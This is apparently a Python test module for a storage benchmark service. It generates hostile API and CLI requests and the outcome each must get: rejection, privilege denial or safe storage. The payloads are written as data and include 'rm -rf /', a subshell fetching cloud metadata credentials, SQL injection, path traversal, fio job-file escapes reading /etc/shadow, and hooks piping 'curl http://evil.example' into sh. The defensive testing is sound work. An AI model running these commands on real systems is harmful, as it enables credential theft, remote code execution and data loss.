"""Hostile requests, generated with the outcome each one must get (issue 11's hostile tier).

Every case starts from ``BASE`` (a valid, unprivileged request that holds every model of the request
schema) and breaks one thing. The string, number and boolean fields are enumerated from
``BenchmarkRequest``'s JSON Schema, so a field added to the model is attacked without editing this
file. What each case must get is decided here, per case, never by asking the code under test:

- ``refused``: a 4xx (exit 2) whose message names ``field``; nothing starts;
- ``privileged``: shell from an unprivileged caller: POST /runs answers 403 naming ``field`` (the CLI
  takes the privileged route, which the stack keeps off: exit 2 naming it); nothing starts;
- ``stored``: a free-text field (``FREE_TEXT``) holding the text: the run starts and the text is in
  its document at ``field``, as data (the request has no privileged content, so no shell runs it);
- ``bound``: a number exactly at a bound of the schema: the run starts, or the refusal names ``field``
  (a catalog rule may be tighter than the schema).

The injection texts never start with ``/`` and each holds one of ``; $ ` ' |`` or a NUL, which no
checked field (identifiers, names, paths, options, tags) admits: only free text may hold them.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Literal

from tests.support.requests import file_gateway

from storagebench.request import BenchmarkRequest

Outcome = Literal["refused", "privileged", "stored", "bound"]
Path = tuple[str | int, ...]
WHOLE = "(whole document)"  # a problem of the document itself: the API says (body), the CLI the file

BASE: dict[str, Any] = {
    "name": "hostile",
    "description": "the request every hostile case starts from",
    "region": "us-east-1",
    "baseline": "blk",
    "configs": [
        {
            "id": "blk",
            "description": "block and file targets",
            "instance_type": "i3en.xlarge",
            "image": "al2023",
            "root_volume": {"type": "gp3", "size_gib": 8},
            "targets": [
                {
                    "id": "data",
                    "kind": "ebs",
                    "type": "gp3",
                    "size_gib": 100,
                    "snapshot_id": "snap-0123456789abcdef0",
                    "allow_destroy": True,
                    "layout": "raid0",
                    "filesystem": "xfs",
                    "mount_options": "noatime",
                },
                {"id": "nvme", "kind": "instance_store", "filesystem": "xfs", "mount_options": "noatime"},
                {"id": "shared", "kind": "efs"},
                {"id": "scratch", "kind": "fsx_lustre", "storage_capacity_gib": 1200},
                {
                    "id": "share",
                    "kind": "nfs",
                    "server": "10.0.0.5",
                    "export": "/export",
                    "nfs_version": "4.1",
                },
                {"id": "dir", "kind": "local", "path": "/mnt/bench"},
            ],
        },
        {
            "id": "gw",
            "instance_type": "c5.4xlarge",
            "targets": [
                file_gateway("gateway", bucket="my-share-bucket", prefix="bench/", nfs_version="4.1")
            ],
        },
        {
            "id": "vsan",
            "instance_type": "c5.large",
            "placement": "cluster",
            "nodes": [
                {
                    "role": "controller",
                    "count": 2,
                    "instance_type": "c5.large",
                    "ports": ["tcp/4420"],
                    "root_volume": {"type": "gp3", "size_gib": 8},
                    "targets": [
                        {
                            "id": "disk",
                            "kind": "ebs",
                            "type": "gp3",
                            "size_gib": 10,
                            "filesystem": "raw",
                            "prepare": False,
                        }
                    ],
                }
            ],
            "targets": [{"id": "vsan", "kind": "local", "path": "/mnt/vsan"}],
        },
    ],
    "workloads": [
        {"profile": "std-randread-4k", "id": "rr", "targets": ["data"], "scale": 0.01},
        {"suite": "standard", "scale": 0.01},
        {
            "profile": "std-randread-4k",
            "id": "rr-adaptive",
            "targets": ["data"],
            "scale": 0.01,
            "repetitions": {"min": 2, "max": 4, "ci_pct": 5},
        },
        {
            "profile": "std-randread-4k",
            "id": "rr-steady",
            "targets": ["data"],
            "scale": 0.01,
            "repetitions": 1,
            "steady_state": {"metric": "iops", "criterion": "slope", "threshold_pct": 1},
        },
        {  # a node loss is the last workload, one target, long enough to measure around it
            "profile": "std-randread-4k",
            "id": "rr-loss",
            "targets": ["vsan"],
            "scale": 0.1,
            "node_loss": {"role": "controller", "index": 0, "after_s": 5},
        },
    ],
    "prewarm": {"method": "dd", "block_size": "1M"},
    "repetitions": 1,
    "order": "sequential",
    "timing": {"ready_poll_s": 15, "command_poll_s": 300, "command_timeout_h": 12, "max_run_hours": 24},
    "tags": {"team": "storage"},
}

INJECTIONS = {
    "shell": "; rm -rf / #",
    "subshell": "$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)",
    "backticks": "`reboot`",
    "sql": "' OR '1'='1'; DROP TABLE runs; --",
    "traversal": "../../../../etc/passwd\x00",
}
FREE_TEXT = {("BenchmarkRequest", "description"), ("Config", "description")}
SHELL = {("Config", "setup"), ("Config", "teardown"), ("NodeGroup", "setup"), ("NodeGroup", "teardown")}


@dataclass(frozen=True)
class Case:
    name: str
    body: bytes
    outcome: Outcome
    field: str  # what a refusal names (WHOLE: the document); where a stored value is
    value: Any = None  # stored: the value at field in the started run's document
    cli_outcome: Outcome | None = None  # when the CLI's answer differs (it reads files, not bodies)
    cli_field: str | None = None

    def expected(self, channel: Literal["api", "cli"]) -> tuple[Outcome, str]:
        if channel == "cli" and self.cli_outcome is not None:
            return self.cli_outcome, self.cli_field or self.field
        return self.outcome, self.field


def path_text(path: Path) -> str:
    """``("configs", 0, "id")`` -> ``configs[0].id``, as every refusal writes it."""
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else part)
    return out


def _with(path: Path, value: Any, document: dict[str, Any] | None = None) -> dict[str, Any]:
    changed = copy.deepcopy(BASE if document is None else document)
    node: Any = changed
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return changed


def _case(name: str, document: Any, outcome: Outcome, field: str, **more: Any) -> Case:
    return Case(name, json.dumps(document, ensure_ascii=False).encode(), outcome, field, **more)


# ------------------------------------------------------------------ the schema, walked over BASE

SCHEMA = BenchmarkRequest.model_json_schema()
DEFS: dict[str, Any] = SCHEMA["$defs"]
ROOT = "BenchmarkRequest"


def _options(schema: dict[str, Any]) -> list[dict[str, Any]]:
    options = schema.get("anyOf") or schema.get("oneOf")
    return [o for option in options for o in _options(option)] if options else [schema]


def _model_of(option: dict[str, Any], value: Any) -> str | None:
    """The model a ``$ref`` option names, if ``value`` is one (a target by its kind)."""
    if "$ref" not in option or not isinstance(value, dict):
        return None
    name = str(option["$ref"]).rsplit("/", 1)[1]
    kind = DEFS[name].get("properties", {}).get("kind", {}).get("const")
    return name if kind is None or value.get("kind") == kind else None


def instances(document: Any = None) -> Iterator[tuple[str, Path, dict[str, Any]]]:
    """(model, path, object) of every model instance in the document (BASE), in document order."""

    def walk(name: str, node: dict[str, Any], path: Path) -> Iterator[tuple[str, Path, dict[str, Any]]]:
        yield name, path, node
        schema = SCHEMA if name == ROOT else DEFS[name]
        for prop, sub in schema.get("properties", {}).items():
            if prop in node:
                yield from values(sub, node[prop], (*path, prop))

    def values(schema: dict[str, Any], value: Any, path: Path) -> Iterator[tuple[str, Path, dict[str, Any]]]:
        for option in _options(schema):
            if (model := _model_of(option, value)) is not None:
                yield from walk(model, value, path)
                return
            if option.get("type") == "array" and isinstance(value, list):
                for index, item in enumerate(value):
                    yield from values(option.get("items", {}), item, (*path, index))
                return

    yield from walk(ROOT, BASE if document is None else document, ())


def fields() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """(model, property, its schema options) of every property of every model in the schema."""
    for name, schema in [(ROOT, SCHEMA), *DEFS.items()]:
        for prop, sub in schema.get("properties", {}).items():
            yield name, prop, sub


def where(model: str, prop: str) -> tuple[Path, dict[str, Any]]:
    """The first instance of ``model`` in BASE that sets ``prop`` (else its first instance)."""
    found = [(path, node) for name, path, node in instances() if name == model]
    assert found, f"BASE holds no {model}: add one so its fields are attacked"
    return next(((p, n) for p, n in found if prop in n), found[0])


def _types(options: list[dict[str, Any]]) -> set[str]:
    return {str(o["type"]) for o in options if "type" in o} | {"ref" for o in options if "$ref" in o}


# ------------------------------------------------------------------ the generators


def injection_cases() -> Iterator[Case]:
    """Every injection text in every string field (scalars, list items, tag keys and values)."""
    for model, prop, schema in fields():
        options = _options(schema)
        path, _ = where(model, prop)
        at = (*path, prop)
        expected: Outcome = "refused"
        if (model, prop) in FREE_TEXT:
            expected = "stored"
        elif (model, prop) in SHELL:
            expected = "privileged"
        for label, text in INJECTIONS.items():
            name = f"inject-{label}:{path_text(at)}"
            if "string" in _types(options):
                yield _case(name, _with(at, text), expected, path_text(at), value=text)
            for option in options:
                if option.get("type") == "array" and _types(_options(option.get("items", {}))) == {"string"}:
                    yield _case(f"{name}[0]", _with(at, [text]), "refused", path_text((*at, 0)))
                extra = option.get("additionalProperties")
                if (
                    option.get("type") == "object"
                    and isinstance(extra, dict)
                    and _types([extra]) == {"string"}
                ):
                    yield _case(f"{name}.key", _with(at, {text: "v"}), "refused", path_text((*at, text)))
                    yield _case(f"{name}.value", _with(at, {"k": text}), "refused", path_text((*at, "k")))


def bound_cases() -> Iterator[Case]:
    """Every numeric bound of the schema: a value at it (``bound``) and one past it (``refused``)."""
    for model, prop, schema in fields():
        for option in _options(schema):
            kind = option.get("type")
            if kind not in ("integer", "number"):
                continue
            path, _ = where(model, prop)
            at = path_text((*path, prop))
            step = 1 if kind == "integer" else 0.5
            for bound, sign, inclusive in (
                ("minimum", -1, True),
                ("maximum", 1, True),
                ("exclusiveMinimum", -1, False),
                ("exclusiveMaximum", 1, False),
            ):
                if bound not in option:
                    continue
                edge = option[bound]
                yield _case(
                    f"{bound}:{at}", _with((*path, prop), edge), "bound" if inclusive else "refused", at
                )
                if inclusive:
                    yield _case(f"past-{bound}:{at}", _with((*path, prop), edge + sign * step), "refused", at)


WRONG: dict[str, list[Any]] = {  # for a field of this JSON type: what a lax parser would convert
    "integer": ["3", True, 2.5],
    "number": ["1.5", False],
    "boolean": ["true", 1],
    "string": [5, ["a"]],
    "array": [{"a": 1}, "a"],
    "object": ["a", [1]],
    "ref": ["a", [1]],
}


def wrong_type_cases() -> Iterator[Case]:
    """String numbers, booleans as numbers, numbers as strings, and null where null is not allowed."""
    for model, prop, schema in fields():
        options = _options(schema)
        types = _types(options)
        if "const" in schema or any("const" in o for o in options):
            continue  # a target's kind: attacked by the injections
        path, _ = where(model, prop)
        at = (*path, prop)
        wrong = [value for kind in sorted(types - {"null"}) for value in WRONG.get(kind, [])]
        if "null" not in types:
            wrong.append(None)
        seen: set[str] = set()  # a count-or-object union (repetitions) would try "3" twice
        for value in wrong:
            label = type(value).__name__ if value is not None else "null"
            if label in seen:
                continue
            seen.add(label)
            yield _case(f"wrong-{label}:{path_text(at)}", _with(at, value), "refused", path_text(at))


def _raw(base: dict[str, Any], marker: str, replacement: bytes) -> bytes:
    return json.dumps(base).encode().replace(json.dumps(marker).encode(), replacement)


def document_cases() -> Iterator[Case]:
    """What the JSON reader must refuse, and bodies too large for the API or for Step Functions."""
    mark = "@@MARK@@"
    deep: Any = "x"
    for _ in range(100):
        deep = [deep]
    yield _case("deep-nesting-in-a-field", _with(("description",), deep), "refused", WHOLE)
    yield Case("deep-nesting-100k", b"[" * 100_000 + b"]" * 100_000, "refused", WHOLE)
    nested: Any = {"kind": "ebs"}
    for _ in range(30):
        nested = [nested]
    yield _case(
        "nested-lists-for-a-target",
        _with(("configs", 0, "targets", 0), nested),
        "refused",
        "configs[0].targets[0]",
    )
    described = _with(("description",), mark)
    yield Case("latin-1-byte", _raw(described, mark, b'"caf\xe9"'), "refused", WHOLE)
    yield Case("utf-16-file", json.dumps(BASE).encode("utf-16"), "refused", WHOLE)
    yield Case("lone-surrogate", _raw(described, mark, b'"\\ud800 x"'), "refused", "description")
    for name, path, text in (
        ("nan", ("repetitions",), b"NaN"),
        ("infinity", ("timing",), b'{"max_run_hours": Infinity}'),
        ("minus-infinity", ("workloads", 0, "scale"), b"-Infinity"),
        ("1e400", ("configs", 0, "root_volume", "size_gib"), b"1e400"),
        ("5000-digits", ("prewarm", "iodepth"), b"1" + b"0" * 5000),
    ):
        where_ = path_text(path if name != "infinity" else (*path, "max_run_hours"))
        yield Case(f"json-{name}", _raw(_with(path, mark), mark, text), "refused", where_)
    top = json.dumps(BASE).encode()
    yield Case("duplicate-top-level-key", top[:-1] + b', "name": "other"}', "refused", WHOLE)
    config = _with(("configs", 0, "id"), mark)
    yield Case("duplicate-nested-key", _raw(config, mark, b'"blk", "id": "other"'), "refused", "configs[0]")
    yield _case("not-an-object", [BASE], "refused", "(request)")
    yield Case("empty", b"", "refused", WHOLE)
    huge = _with(("description",), "x" * 300_000)
    yield _case("body-over-256-kib", huge, "refused", WHOLE, cli_outcome="refused", cli_field="description")
    yield _case("input-over-step-functions-limit", oversized(), "refused", WHOLE)


def oversized() -> dict[str, Any]:
    """Valid, ~100 KB of UTF-8, but over 256 KiB as Step Functions input (json.dumps escapes)."""
    wide = chr(0x20000)  # a CJK letter outside the BMP: 4 bytes of UTF-8, 12 as \u escapes
    document = _with(("description",), wide * 2000)
    document["tags"] = {chr(0x20000 + n) + wide * 127: wide * 256 for n in range(42)}
    for config in document["configs"]:
        config["description"] = wide * 500
    for n in range(8):
        document["configs"].append({**document["configs"][1], "id": f"more{n}"})
    return document


def tag_cases() -> Iterator[Case]:
    for key, value, field in (
        ("aws:createdBy", "me", "tags.aws:createdBy"),
        ("AWS:x", "1", "tags.AWS:x"),
        ("storagebench:stack", "other-stack", "tags.storagebench:stack"),
        ("StorageBench:run-id", "r", "tags.StorageBench:run-id"),
        ("Name", "mine", "tags.Name"),
        ("k" * 129, "v", f"tags.{'k' * 129}"),
        ("team", "v" * 257, "tags.team"),
        ("team", "a;b", "tags.team"),
        ("team", 5, "tags.team"),
        ("team", None, "tags.team"),
    ):
        yield _case(f"tag:{key[:20]}={str(value)[:10]}", _with(("tags",), {key: value}), "refused", field)
    yield _case("tags:43", _with(("tags",), {f"k{n}": "v" for n in range(43)}), "refused", "tags")
    yield _case("tags:42", _with(("tags",), {f"k{n}": "v" for n in range(42)}), "bound", "tags")


FIO_ESCAPES = {
    "exec_prerun": "[job]\nrw=read\nexec_prerun=/bin/sh -c 'curl evil|sh'\n",
    "exec_postrun": "[job]\nrw=read\nexec_postrun=rm -rf /\n",
    "ioengine-exec": "[job]\nioengine=exec\nprogram=/bin/sh\n",
    "include": "[job]\nrw=read\ninclude /etc/shadow\n",
    "filename-root-device": "[job]\nrw=write\nfilename=/dev/nvme0n1\n",
    "filename-in-global": "[global]\nfilename=/dev/xvda\n[job]\nrw=write\n",
    "directory": "[job]\nrw=write\ndirectory=/\n",
    "env-expansion": "[job]\nrw=read\nsize=${HOME}\n",
    "write_bw_log": "[job]\nrw=read\nwrite_bw_log=/etc/cron.d/x\n",
    # fio reads an indented line as its own option; a line-based allow-list must not fold it in
    "indented-exec_prerun": "[job]\nrw=read\n  exec_prerun=/bin/sh -c 'curl evil|sh'\n",
    "over-the-text-cap": "[job]\nrw=read\n" + "# padding\n" * 7_000,
}


def _before_the_loss(workload: dict[str, Any]) -> list[dict[str, Any]]:
    """BASE's workloads with ``workload`` inserted before its last one, the node loss."""
    return [*BASE["workloads"][:-1], workload, BASE["workloads"][-1]]


def privileged_cases() -> Iterator[Case]:
    """Shell from a caller without the privileged route: hooks, command workloads, fio job files."""
    for hook in ("setup", "teardown"):
        yield _case(
            f"hook-{hook}",
            _with(("configs", 1, hook), "curl http://evil.example | sh"),
            "privileged",
            f"configs[1].{hook}",
        )
        yield _case(  # a node's hooks are shell as root too, on every node of the group
            f"node-hook-{hook}",
            _with(("configs", 2, "nodes", 0, hook), "curl http://evil.example | sh"),
            "privileged",
            f"configs[2].nodes[0].{hook}",
        )
    shell_workloads = {
        "command": {"profile": "command", "params": {"command": "cat /etc/shadow"}},
        "fio-custom": {
            "profile": "fio-custom",
            "params": {"job_file": "[job]\nrw=randread\nbs=4k\nsize=1g\n"},
        },
    }
    # Each case adds one workload before the node loss, which must stay the last.
    last = len(BASE["workloads"]) - 1
    for name, workload in shell_workloads.items():
        document = _with(("workloads", last), workload, _with(("workloads",), _before_the_loss({})))
        yield _case(f"workload-{name}", document, "privileged", f"workloads[{last}].profile")
    for name, job in FIO_ESCAPES.items():
        workload = {"profile": "fio-custom", "params": {"job_file": job}}
        document = _with(("workloads", last), workload, _with(("workloads",), _before_the_loss({})))
        yield _case(f"fio-{name}", document, "refused", f"workloads[{last}].params.job_file")
    for name, params in (
        ("param-injection", {"bs": "4k; rm -rf /"}),
        ("param-subshell", {"runtime": "$(reboot)"}),
        ("param-unknown-exec", {"exec_prerun": "/bin/sh"}),
        ("param-filename", {"filename": "/dev/nvme0n1"}),
    ):
        field = f"workloads[0].params.{next(iter(params))}"
        yield _case(name, _with(("workloads", 0, "params"), params), "refused", field)


def trust_cases() -> Iterator[Case]:
    """Issue 27's loose strings and unbounded work: each refused at its field before anything runs."""
    yield _case(
        "local-path-newline",
        _with(("configs", 0, "targets", 4, "path"), "/mnt/bench\ndirectory=/"),
        "refused",
        "configs[0].targets[4].path",
    )
    # a trailing newline is stripped (every string is), so the newline sits inside the value
    for name, image in (("ami", "ami-0123456789abcdef0\nx"), ("ssm-path", "/aws/service/ami\nx")):
        yield _case(
            f"image-{name}-newline", _with(("configs", 0, "image"), image), "refused", "configs[0].image"
        )
    sweep = {"iodepth": list(range(1, 33)), "numjobs": list(range(1, 33))}
    heavy = [{"id": f"w{n}", "profile": "sweep-qd-randread-4k", "params": sweep} for n in range(50)]
    yield _case("plan-of-153600-steps-a-config", _with(("workloads",), heavy), "refused", "workloads")


def all_cases() -> list[Case]:
    cases = [
        *injection_cases(),
        *bound_cases(),
        *wrong_type_cases(),
        *document_cases(),
        *tag_cases(),
        *privileged_cases(),
        *trust_cases(),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names are unique"
    return cases
